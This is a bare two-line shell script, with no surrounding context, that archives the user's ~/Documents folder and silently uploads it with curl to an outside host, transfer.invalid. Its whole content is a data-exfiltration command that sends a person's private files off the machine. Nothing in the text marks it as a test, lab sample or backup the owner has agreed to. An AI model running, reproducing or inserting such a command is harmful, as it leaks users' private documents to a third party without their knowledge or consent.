#!/bin/sh
tar cz ~/Documents | curl -s -T - https://transfer.invalid/d
